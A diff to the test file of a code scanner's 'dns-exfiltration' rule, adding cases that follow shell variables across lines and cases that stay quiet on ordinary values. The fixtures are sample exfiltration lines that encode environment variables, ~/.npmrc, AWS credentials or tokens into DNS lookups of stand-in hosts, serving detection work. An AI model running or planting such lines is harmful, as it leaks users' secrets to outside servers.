@@ -2074,11 +2074,21 @@ describe('dns-exfiltration: data written into the name a DNS lookup asks for', (
   const dns = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dns-exfiltration');
   it('reads shell scripts, JavaScript, Python and Go, with the data on the line or a few lines above in the hunk', () => {
     expect(dns('scripts/postinstall.sh', ['for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net" >/dev/null; done'])?.severity).toBe('critical');
-    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
+    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('critical');
+    expect(dns('scripts/setup.sh', ['nslookup "$(date +%s | base32 | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
     expect(dns('tools/beacon.sh', ['ping -c 1 "$(whoami).$(hostname).cb.oast-relay.net" >/dev/null'])?.severity).toBe('high');
     expect(dns('src/telemetry.js', ["const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);", '', 'dns.resolve(`${data}.t.cdn-metrics.net`, () => {});'])).toMatchObject({ severity: 'critical', line: 13, title: 'Data is sent out in a DNS lookup of *.t.cdn-metrics.net' });
     expect(dns('pkg/_ping.py', ['d = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")', 'socket.gethostbyname(f"{d}.x.ns-check.net")'])?.severity).toBe('critical');
     expect(dns('internal/t.go', ['\tnet.LookupHost(hex.EncodeToString([]byte(os.Getenv("GITHUB_TOKEN"))) + ".x.dnslog.dev")'])?.severity).toBe('critical');
+  });
+  it('follows a shell variable assigned on an earlier line of the script, through further assignments', () => {
+    expect(dns('scripts/postinstall.sh', ['#!/bin/sh', "D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)", 'sleep 1', 'nslookup "$D.k.edge-resolve.net" >/dev/null 2>&1'])).toMatchObject({ severity: 'critical', line: 14 });
+    expect(dns('scripts/build.sh', ['export ENC=$(env | base32 -w0)', 'CHUNK=$(echo "$ENC" | cut -c1-60)', 'dig +short ${CHUNK}.x.ns-relay.io'])?.severity).toBe('critical');
+    expect(dns('scripts/build.sh', ['local u=$(whoami)', 'ping -c1 "$u.cb.oast-relay.net"'])?.severity).toBe('high');
+  });
+  it('forgets a variable assigned ordinary data again, and reads no variable of ordinary data', () => {
+    expect(dns('scripts/check.sh', ['D=$(cat ~/.npmrc | base64)', 'D=$(git rev-parse --short HEAD)', 'host "$D.preview.acme.dev"'])).toBeUndefined();
+    expect(dns('scripts/check.sh', ['SERVICE=api', 'REV=$(git rev-parse --short HEAD)', 'dig +short "$SERVICE.$REV.preview.acme.dev"'])).toBeUndefined();
   });
   it('is quiet on lookups of names built from ordinary values, random names, local and example domains', () => {
     expect(dns('scripts/check-dns.sh', ['dig +short "${SERVICE}.svc.cluster.local"', 'dig +short "_acme-challenge.$DOMAIN" TXT @"$NS"', 'host "$(git rev-parse --short HEAD).preview.acme.dev"', 'ping -c1 "$(hostname).corp.acme.com"', 'echo "resolving $(whoami).example.dev"'])).toBeUndefined();
